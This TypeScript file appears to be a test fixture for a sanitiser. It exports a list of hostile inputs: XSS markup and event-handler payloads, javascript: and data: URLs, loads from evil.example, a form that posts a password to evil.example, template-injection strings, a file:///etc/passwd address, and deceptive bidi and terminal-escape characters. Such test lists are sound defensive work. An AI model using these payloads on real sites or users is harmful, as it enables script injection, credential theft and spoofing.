/** Hostile inputs: markup, scripts, addresses, templates, and deceptive characters. */

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<a href="javascript:alert(1)">look</a>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<input autofocus onfocus=alert(1)>',
  '<button popovertarget=x onclick=alert(1)>press</button>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
];

const WRITTEN = [
  '![pixel](https://evil.example/pixel.gif)',
  '[look](javascript:alert(1))',
  '[look](data:text/html,<script>alert(1)</script>)',
  '[https://bank.example](https://evil.example)',
  '<javascript:alert(1)>',
  '[ref]: javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is tried.
  '${alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://ada:secret@evil.example/',
  'https://evil.example\\@bank.example/',
  'https://bank.example\u2215evil.example/',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
];

const DECEPTIVE = [
  'approve \u202Eyned\u202C this',
  'zero\u200Bwidth',
  '\u2066isolated\u2069 and \u2067turned\u2069',
  'tag\u{E0041}\u{E0042}s',
  'bell\u0007 and delete\u007F',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  'line\u2028separator',
  '\uFEFFmark',
  `${'a\u0301'.repeat(200)}`,
  `${'\u0489'.repeat(100)}zalgo`,
  'ﷺ'.repeat(40),
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...WRITTEN, ...ADDRESSES, ...DECEPTIVE];
